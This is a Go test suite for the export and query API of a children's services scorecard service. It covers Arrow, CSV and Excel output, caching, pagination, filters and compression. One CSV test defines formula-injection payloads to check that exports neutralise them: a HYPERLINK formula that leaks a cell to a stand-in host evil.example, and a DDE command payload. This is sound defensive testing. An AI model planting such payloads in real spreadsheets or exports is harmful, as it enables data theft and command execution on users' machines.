package api_test

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/apache/arrow-go/v18/arrow"
	"github.com/apache/arrow-go/v18/arrow/array"
	"github.com/apache/arrow-go/v18/arrow/ipc"
	"github.com/apache/arrow-go/v18/arrow/memory"
	"github.com/childrens-trust/scorecard/engine"
	"github.com/xuri/excelize/v2"
)

func get(t *testing.T, h http.Handler, path string, headers map[string]string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(http.MethodGet, path, nil)
	for k, v := range headers {
		req.Header.Set(k, v)
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec
}

// readArrow reads an Arrow IPC stream into rows of column name -> Go value (nil for null).
func readArrow(t *testing.T, data []byte) (*arrow.Schema, []map[string]any) {
	t.Helper()
	r, err := ipc.NewReader(bytes.NewReader(data), ipc.WithAllocator(memory.NewGoAllocator()))
	if err != nil {
		t.Fatal(err)
	}
	defer r.Release()
	var rows []map[string]any
	for r.Next() {
		rec := r.RecordBatch()
		for i := 0; i < int(rec.NumRows()); i++ {
			row := map[string]any{}
			for j, col := range rec.Columns() {
				name := rec.Schema().Field(j).Name
				if col.IsNull(i) {
					row[name] = nil
					continue
				}
				switch a := col.(type) {
				case *array.Float64:
					row[name] = a.Value(i)
				case *array.Int64:
					row[name] = a.Value(i)
				case *array.String:
					row[name] = a.Value(i)
				case *array.Boolean:
					row[name] = a.Value(i)
				case *array.Date32:
					row[name] = a.Value(i).ToTime().Format(time.DateOnly)
				case *array.Timestamp:
					row[name] = a.Value(i).ToTime(arrow.Microsecond).UTC()
				default:
					t.Fatalf("column %s: unexpected Arrow type %T", name, col)
				}
			}
			rows = append(rows, row)
		}
	}
	if err := r.Err(); err != nil {
		t.Fatal(err)
	}
	return r.Schema(), rows
}

func fptr(p *float64) any {
	if p == nil {
		return nil
	}
	return *p
}

func sval(s string) any {
	if s == "" {
		return nil
	}
	return s
}

// The Arrow stream of an indicator for every area, read back with arrow-go, holds exactly what
// the JSON holds: same rows in the same order, typed columns, nulls where JSON has null.
func TestArrowStreamEqualsJSON(t *testing.T) {
	f := sharedFixture(t)
	for _, path := range []string{
		"/api/v1/indicators/perm-exclusion-rate/areas",
		"/api/v1/indicators/injury-admissions-0-14/evaluations?area=839",
		"/api/v1/evaluations?indicator=rereferrals&limit=500",
	} {
		t.Run(path, func(t *testing.T) {
			js := get(t, f.handler, path, nil)
			if js.Code != http.StatusOK {
				t.Fatalf("json: %d %s", js.Code, js.Body)
			}
			evs := decode[struct{ Data []*engine.Evaluation }](t, js.Body.Bytes()).Data
			ar := get(t, f.handler, path, map[string]string{"Accept": "application/vnd.apache.arrow.stream"})
			if ar.Code != http.StatusOK || ar.Header().Get("Content-Type") != "application/vnd.apache.arrow.stream" {
				t.Fatalf("arrow: %d %s", ar.Code, ar.Header())
			}
			schema, rows := readArrow(t, ar.Body.Bytes())
			want := map[string]arrow.Type{"value": arrow.FLOAT64, "rank": arrow.INT64, "rank_of": arrow.INT64, "area_code": arrow.STRING,
				"period_end": arrow.DATE32, "evaluated_at": arrow.TIMESTAMP, "england_value": arrow.FLOAT64, "numerator": arrow.FLOAT64}
			for name, typ := range want {
				fs, ok := schema.FieldsByName(name)
				if !ok || fs[0].Type.ID() != typ {
					t.Errorf("column %s: %v, want %v", name, fs, typ)
				}
			}
			if len(rows) != len(evs) || len(evs) == 0 {
				t.Fatalf("%d Arrow rows, %d JSON evaluations", len(rows), len(evs))
			}
			for i, ev := range evs {
				row := rows[i]
				var eng, reg, sn *engine.Comparator = ev.Comparators.England, ev.Comparators.Region, ev.Comparators.StatisticalNeighbours
				var rank, rankOf any
				if ev.Rank != nil {
					rank, rankOf = int64(ev.Rank.Position), int64(ev.Rank.Of)
				}
				var lo, hi any
				if ev.CI != nil {
					lo, hi = fptr(ev.CI.Lower95), fptr(ev.CI.Upper95)
				}
				var prev any
				if ev.Direction.Previous != nil {
					prev = sval(string(ev.Direction.Previous.Judgement))
				}
				expect := map[string]any{
					"indicator": ev.Indicator, "area_code": ev.Area.Code, "area_name": ev.Area.Name, "area_level": ev.Area.Level,
					"period": ev.Period, "period_end": ev.PeriodEnd, "value": fptr(ev.Value), "display_value": sval(ev.DisplayValue),
					"numerator": fptr(ev.Numerator), "denominator": fptr(ev.Denominator), "lower_95": lo, "upper_95": hi,
					"rag": string(ev.RAG.Status), "target": fptr(ev.RAG.Target),
					"england_value": compValue(eng), "england_judgement": compJudgement(eng),
					"region_value": compValue(reg), "region_judgement": compJudgement(reg),
					"sn_value": compValue(sn), "sn_judgement": compJudgement(sn),
					"rank": rank, "rank_of": rankOf, "quartile": sval(ev.Quartile), "direction_previous": prev,
					"revision": int64(ev.Source.Revision), "evaluated_at": ev.EvaluatedAt.UTC().Truncate(time.Microsecond),
				}
				for k, v := range expect {
					if got := row[k]; got != v {
						if gt, ok := got.(time.Time); ok && gt.Equal(v.(time.Time)) {
							continue
						}
						t.Errorf("row %d (%s %s) column %s: Arrow %v (%T), JSON %v (%T)", i, ev.Area.Code, ev.Period, k, got, got, v, v)
					}
				}
			}
		})
	}
}

func compValue(c *engine.Comparator) any {
	if c == nil {
		return nil
	}
	return fptr(c.Value)
}

func compJudgement(c *engine.Comparator) any {
	if c == nil {
		return nil
	}
	return sval(string(c.Judgement))
}

// CSV: a header, flat columns, text cells that would run as formulas neutralised with a
// leading apostrophe, and genuine negative numbers left as numbers.
func TestCSVNeutralisesFormulasButKeepsNegativeNumbers(t *testing.T) {
	f := newFixture(t, "local_returns")
	path := "/api/v1/indicators/secondary-good-outstanding-schools/areas/836/commentary"
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "-12.5"}
	for _, text := range hostile {
		rec := f.do(t, http.MethodPost, path, &requestBody{contentType: "application/json",
			data: []byte(`{"period":"2016-17 Q4","author":"=cmd","text":` + strconv.Quote(text) + `}`)})
		if rec.Code != http.StatusCreated {
			t.Fatalf("comment %q: %d %s", text, rec.Code, rec.Body)
		}
	}
	rec := get(t, f.handler, path+"?format=csv", nil)
	if rec.Code != http.StatusOK || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") {
		t.Fatalf("%d %v", rec.Code, rec.Header())
	}
	rows, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := strings.Join(rows[0], ",")
	if header != "id,indicator,area,period,author,created_at,text,posted_by_token_id,posted_by_token_name" {
		t.Fatalf("header %s", header)
	}
	got := map[string]bool{}
	for _, r := range rows[1:] {
		got[r[6]] = true
		if r[4] != "'=cmd" {
			t.Errorf("author %q not neutralised", r[4])
		}
		if r[7] != "" || r[8] != "local (auth off)" {
			t.Errorf("poster %q [%q], want local (auth off)", r[8], r[7])
		}
	}
	for _, text := range hostile {
		want := "'" + text
		if text == "-12.5" {
			want = text // a plain number is harmless and stays as it is
		}
		if !got[want] {
			t.Errorf("text %q: want cell %q in %v", text, want, got)
		}
	}

	// Numeric columns: a fall in permanent exclusions is a negative change, written as a number.
	g := sharedFixture(t)
	rec = get(t, g.handler, "/api/v1/indicators/perm-exclusion-rate/areas", map[string]string{"Accept": "text/csv"})
	rows, err = csv.NewReader(rec.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	negatives := 0
	for _, r := range rows[1:] {
		if c := r[col["previous_change"]]; strings.HasPrefix(c, "-") {
			if _, err := strconv.ParseFloat(c, 64); err != nil {
				t.Errorf("previous_change %q is not a number", c)
			}
			negatives++
		}
		if r[col["area_code"]] == "" || strings.HasPrefix(r[col["display_value"]], "'") {
			t.Errorf("row %v", r)
		}
	}
	if negatives == 0 {
		t.Error("expected falls in permanent exclusions (negative previous_change)")
	}
}

// Excel: one sheet per priority, numbers stored as numbers with the indicator's decimal places
// as the cell format, RAG as words.
func TestXLSXScorecardHasNumericCellsWithTheIndicatorsFormat(t *testing.T) {
	f := sharedFixture(t)
	checked := 0
	for _, id := range []string{"poole-childrens-trust", "leicestershire-ewmh"} {
		checked += checkScorecardWorkbook(t, f, id)
	}
	if checked < 8 {
		t.Errorf("only %d scorecard values checked", checked)
	}
}

func checkScorecardWorkbook(t *testing.T, f *fixture, id string) (checked int) {
	rec := get(t, f.handler, "/api/v1/scorecards/"+id+"?format=xlsx", nil)
	if rec.Code != http.StatusOK || !strings.Contains(rec.Header().Get("Content-Disposition"), ".xlsx") {
		t.Fatalf("%d %v %.200s", rec.Code, rec.Header(), rec.Body)
	}
	res := decode[engine.ScorecardResult](t, get(t, f.handler, "/api/v1/scorecards/"+id, nil).Body.Bytes())
	wb, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	sheets := wb.GetSheetList()
	if len(sheets) != len(res.Priorities) || len(sheets) < 2 {
		t.Fatalf("sheets %q for %d priorities", sheets, len(res.Priorities))
	}
	for si, p := range res.Priorities {
		if !strings.HasPrefix(sheets[si], strconv.Itoa(si+1)+" ") {
			t.Errorf("sheet %d is %q", si, sheets[si])
		}
		rows, err := wb.GetRows(sheets[si])
		if err != nil {
			t.Fatal(err)
		}
		col := map[string]int{}
		for i, h := range rows[0] {
			col[h] = i
		}
		if len(rows)-1 != len(p.Rows) {
			t.Fatalf("sheet %q: %d rows, priority has %d", sheets[si], len(rows)-1, len(p.Rows))
		}
		for ri, item := range p.Rows {
			ev := item.Evaluation
			if ev == nil || ev.Value == nil {
				continue
			}
			cell, _ := excelize.CoordinatesToCellName(col["value"]+1, ri+2)
			typ, err := wb.GetCellType(sheets[si], cell)
			if err != nil {
				t.Fatal(err)
			}
			if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
				t.Errorf("%s %s: cell type %v, want a number", sheets[si], cell, typ)
			}
			// The cell holds the value at the indicator's decimals, as CSV writes it.
			raw, _ := wb.GetCellValue(sheets[si], cell, excelize.Options{RawCellValue: true})
			want, _ := strconv.ParseFloat(strconv.FormatFloat(*ev.Value, 'f', item.Decimals, 64), 64)
			if v, err := strconv.ParseFloat(raw, 64); err != nil || v != want {
				t.Errorf("%s %s: raw %q, want %v", sheets[si], cell, raw, want)
			}
			shown, _ := wb.GetCellValue(sheets[si], cell)
			if shown != ev.DisplayValue {
				t.Errorf("%s %s: shown as %q, want the display value %q (%d decimals)", sheets[si], cell, shown, ev.DisplayValue, item.Decimals)
			}
			styleID, _ := wb.GetCellStyle(sheets[si], cell)
			style, err := wb.GetStyle(styleID)
			if err != nil {
				t.Fatal(err)
			}
			wantFmt := "0"
			if item.Decimals > 0 {
				wantFmt = "0." + strings.Repeat("0", item.Decimals)
			}
			if style.CustomNumFmt == nil || *style.CustomNumFmt != wantFmt {
				t.Errorf("%s %s: number format %v, want %q", sheets[si], cell, style.CustomNumFmt, wantFmt)
			}
			ragCell, _ := excelize.CoordinatesToCellName(col["rag"]+1, ri+2)
			if word, _ := wb.GetCellValue(sheets[si], ragCell); word != string(ev.RAG.Status) {
				t.Errorf("%s %s: RAG %q, want %q", sheets[si], ragCell, word, ev.RAG.Status)
			}
			checked++
		}
	}
	return checked
}

// Conditional requests: an unchanged resource answers 304 to its ETag and to its Last-Modified
// date; the ETag differs by format; after an upload the same request gets 200 and a new ETag.
func TestETagAnd304UntilAnUploadChangesTheData(t *testing.T) {
	f := newFixture(t, "local_returns")
	path := "/api/v1/indicators/secondary-good-outstanding-schools/evaluations?area=836"
	first := get(t, f.handler, path, nil)
	tag, lastMod := first.Header().Get("ETag"), first.Header().Get("Last-Modified")
	if first.Code != http.StatusOK || !strings.HasPrefix(tag, `W/"`) || lastMod == "" {
		t.Fatalf("%d ETag %q Last-Modified %q", first.Code, tag, lastMod)
	}
	if rec := get(t, f.handler, path, map[string]string{"If-None-Match": tag}); rec.Code != http.StatusNotModified || rec.Body.Len() != 0 || rec.Header().Get("ETag") != tag {
		t.Errorf("If-None-Match: %d %q", rec.Code, rec.Body)
	}
	if rec := get(t, f.handler, path, map[string]string{"If-None-Match": `"other", ` + tag}); rec.Code != http.StatusNotModified {
		t.Errorf("If-None-Match with a list: %d", rec.Code)
	}
	if rec := get(t, f.handler, path, map[string]string{"If-Modified-Since": lastMod}); rec.Code != http.StatusNotModified {
		t.Errorf("If-Modified-Since: %d", rec.Code)
	}
	csvRec := get(t, f.handler, path+"&format=csv", map[string]string{"If-None-Match": tag})
	if csvRec.Code != http.StatusOK || csvRec.Header().Get("ETag") == tag {
		t.Errorf("CSV with the JSON ETag: %d, ETag %q", csvRec.Code, csvRec.Header().Get("ETag"))
	}

	up := f.do(t, http.MethodPost, "/api/v1/datasets/local_returns/revisions",
		csvBody("indicator,area,period,value\nsecondary-good-outstanding-schools,836,2016-17 Q4,88.4\n"))
	if up.Code != http.StatusCreated {
		t.Fatalf("upload: %d %s", up.Code, up.Body)
	}
	after := get(t, f.handler, path, map[string]string{"If-None-Match": tag})
	if after.Code != http.StatusOK || after.Header().Get("ETag") == tag || after.Header().Get("ETag") == "" {
		t.Fatalf("after an upload: %d, ETag %q (was %q)", after.Code, after.Header().Get("ETag"), tag)
	}
	if bytes.Equal(after.Body.Bytes(), first.Body.Bytes()) {
		t.Error("the body did not change after the upload")
	}
	if rec := get(t, f.handler, path, map[string]string{"If-None-Match": after.Header().Get("ETag")}); rec.Code != http.StatusNotModified {
		t.Errorf("new ETag: %d", rec.Code)
	}
}

// Pagination walks every row exactly once, in the same order as one unpaged read, following
// the next links (JSON and Link header agree).
func TestPaginationWalksEveryRowOnce(t *testing.T) {
	f := sharedFixture(t)
	for _, tc := range []struct{ all, paged string }{
		{"/api/v1/evaluations?indicator=perm-exclusion-rate&indicator=rereferrals&limit=10000", "/api/v1/evaluations?indicator=perm-exclusion-rate&indicator=rereferrals&limit=97"},
		{"/api/v1/evaluations?group=neighbours:839&indicator=rereferrals&indicator=lait-cpp-rate&indicator=lait-secpermex&limit=10000",
			"/api/v1/evaluations?group=neighbours:839&indicator=rereferrals&indicator=lait-cpp-rate&indicator=lait-secpermex&limit=250"},
		{"/api/v1/indicators/perm-exclusion-rate/areas", "/api/v1/indicators/perm-exclusion-rate/areas?limit=17"},
		{"/api/v1/indicators/secondary-good-outstanding-schools/evaluations?area=836", "/api/v1/indicators/secondary-good-outstanding-schools/evaluations?area=836&limit=2"},
	} {
		t.Run(tc.paged, func(t *testing.T) {
			whole := decode[struct {
				Data []*engine.Evaluation
				Next string
			}](t, get(t, f.handler, tc.all, nil).Body.Bytes())
			if whole.Next != "" || len(whole.Data) < 3 {
				t.Fatalf("unpaged read: %d rows, next %q", len(whole.Data), whole.Next)
			}
			var walked []*engine.Evaluation
			seen := map[engine.EvaluationKey]bool{}
			path, pages := tc.paged, 0
			for path != "" {
				rec := get(t, f.handler, path, nil)
				if rec.Code != http.StatusOK {
					t.Fatalf("%s: %d %s", path, rec.Code, rec.Body)
				}
				page := decode[struct {
					Data       []*engine.Evaluation
					N          int
					Next       string
					NextCursor string `json:"next_cursor"`
				}](t, rec.Body.Bytes())
				link := rec.Header().Get("Link")
				if (page.Next == "") != (link == "") || (link != "" && link != "<"+page.Next+`>; rel="next"`) {
					t.Fatalf("Link %q, next %q", link, page.Next)
				}
				if page.N != len(page.Data) || (page.Next != "" && !strings.Contains(page.Next, "cursor="+page.NextCursor)) {
					t.Fatalf("n %d for %d rows; next %q cursor %q", page.N, len(page.Data), page.Next, page.NextCursor)
				}
				for _, ev := range page.Data {
					if seen[ev.Key()] {
						t.Fatalf("%v twice", ev.Key())
					}
					seen[ev.Key()] = true
				}
				walked = append(walked, page.Data...)
				path = page.Next
				if pages++; pages > 1000 {
					t.Fatal("no end of pages")
				}
			}
			if pages < 2 {
				t.Errorf("only %d page(s)", pages)
			}
			if len(walked) != len(whole.Data) {
				t.Fatalf("walked %d rows, the whole list has %d", len(walked), len(whole.Data))
			}
			for i := range walked {
				if walked[i].Key() != whole.Data[i].Key() {
					t.Fatalf("row %d: %v, unpaged %v", i, walked[i].Key(), whole.Data[i].Key())
				}
			}
		})
	}
}

// Filters: a comparator group, areas, periods and levels select exactly the rows they name.
func TestEvaluationFilters(t *testing.T) {
	f := sharedFixture(t)
	rows := func(path string) []*engine.Evaluation {
		rec := get(t, f.handler, path, nil)
		if rec.Code != http.StatusOK {
			t.Fatalf("%s: %d %s", path, rec.Code, rec.Body)
		}
		return decode[struct{ Data []*engine.Evaluation }](t, rec.Body.Bytes()).Data
	}
	nb := rows("/api/v1/indicators/perm-exclusion-rate/areas?group=neighbours:839")
	if len(nb) != 11 {
		t.Errorf("BCP and its 10 neighbours: %d rows", len(nb))
	}
	cmp := rows("/api/v1/indicators/perm-exclusion-rate/areas?group=comparators:Bournemouth,%20Christchurch%20and%20Poole")
	if len(cmp) != 13 || cmp[0].Area.Code != "E92000001" || cmp[1].Area.Code != "E12000009" {
		t.Errorf("comparators of BCP: %d rows, first %v", len(cmp), cmp[0].Area)
	}
	got := rows("/api/v1/evaluations?indicator=rereferrals&area=839&area=E06000029&period=2016-17&period=2025&period=2024")
	for _, ev := range got {
		if ev.Indicator != "rereferrals" || (ev.Area.Code != "E06000058" && ev.Area.Code != "E06000029") ||
			(ev.Period != "2024" && ev.Period != "2025") {
			t.Errorf("unexpected %v", ev.Key())
		}
	}
	if len(got) != 2 {
		t.Errorf("rereferrals for BCP in 2024 and 2025 (Poole ended in 2019): %d rows", len(got))
	}
	if regions := rows("/api/v1/evaluations?indicator=rereferrals&level=region&period=2025"); len(regions) != 9 {
		t.Errorf("9 regions, got %d", len(regions))
	}
	if none := rows("/api/v1/evaluations?area=E92000001&group=neighbours:839"); len(none) != 0 {
		t.Errorf("England is not a neighbour of BCP: %d rows", len(none))
	}
}

// Negotiation: Accept with qualities, ?format= wins, 406 with the JSON error shape.
func TestContentNegotiation(t *testing.T) {
	f := sharedFixture(t)
	path := "/api/v1/areas/E06000058/scorecard"
	for _, tc := range []struct {
		accept, query string
		status        int
		contentType   string
	}{
		{"", "", 200, "application/json"},
		{"*/*", "", 200, "application/json"},
		{"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "", 200, "application/json"},
		{"text/csv", "", 200, "text/csv"},
		{"application/json;q=0.5, text/csv", "", 200, "text/csv"},
		{"text/*", "", 200, "text/csv"},
		{"application/vnd.apache.arrow.stream", "", 200, "application/vnd.apache.arrow.stream"},
		{"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "", 200, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
		{"application/json", "format=csv", 200, "text/csv"},
		{"application/xml", "", 406, "application/problem+json"},
		{"text/csv;q=0, */*;q=0.1", "format=", 200, "application/json"},
		{"text/csv;q=0", "", 406, "application/problem+json"},
		{"", "format=pdf", 400, "application/problem+json"},
	} {
		p := path
		if tc.query != "" {
			p += "?" + tc.query
		}
		rec := get(t, f.handler, p, map[string]string{"Accept": tc.accept})
		if rec.Code != tc.status || !strings.HasPrefix(rec.Header().Get("Content-Type"), tc.contentType) {
			t.Errorf("Accept %q %s: %d %s", tc.accept, tc.query, rec.Code, rec.Header().Get("Content-Type"))
		}
		if rec.Code == 406 {
			if e := decode[errorJSON](t, rec.Body.Bytes()); e.Code != "not_acceptable" || !strings.Contains(e.Detail, "text/csv") {
				t.Errorf("406 body %s", rec.Body)
			}
		}
	}
}

// Large responses are gzip-compressed for clients that accept it; workbooks are not.
func TestGzip(t *testing.T) {
	f := sharedFixture(t)
	rec := get(t, f.handler, "/api/v1/indicators/perm-exclusion-rate/areas", map[string]string{"Accept-Encoding": "gzip"})
	if rec.Header().Get("Content-Encoding") != "gzip" {
		t.Fatalf("not compressed: %v", rec.Header())
	}
	if vary := strings.Join(rec.Header().Values("Vary"), ","); !strings.Contains(vary, "Accept-Encoding") || !strings.Contains(vary, "Accept,") && !strings.HasSuffix(vary, "Accept") {
		t.Errorf("Vary %q should name Accept and Accept-Encoding", vary)
	}
	tag := rec.Header().Get("ETag")
	zr, err := gzip.NewReader(rec.Body)
	if err != nil {
		t.Fatal(err)
	}
	data, err := io.ReadAll(zr)
	if err != nil || !json.Valid(data) {
		t.Fatalf("%v %.100s", err, data)
	}
	rec = get(t, f.handler, "/api/v1/indicators/perm-exclusion-rate/areas", map[string]string{"Accept-Encoding": "gzip", "If-None-Match": tag})
	if rec.Code != http.StatusNotModified || rec.Body.Len() != 0 || rec.Header().Get("Content-Encoding") != "" {
		t.Errorf("304 through gzip: %d %v %q", rec.Code, rec.Header(), rec.Body)
	}
	rec = get(t, f.handler, "/api/v1/indicators/perm-exclusion-rate/areas?format=xlsx", map[string]string{"Accept-Encoding": "gzip"})
	if rec.Header().Get("Content-Encoding") != "" {
		t.Errorf("workbook compressed again: %v", rec.Header())
	}
}
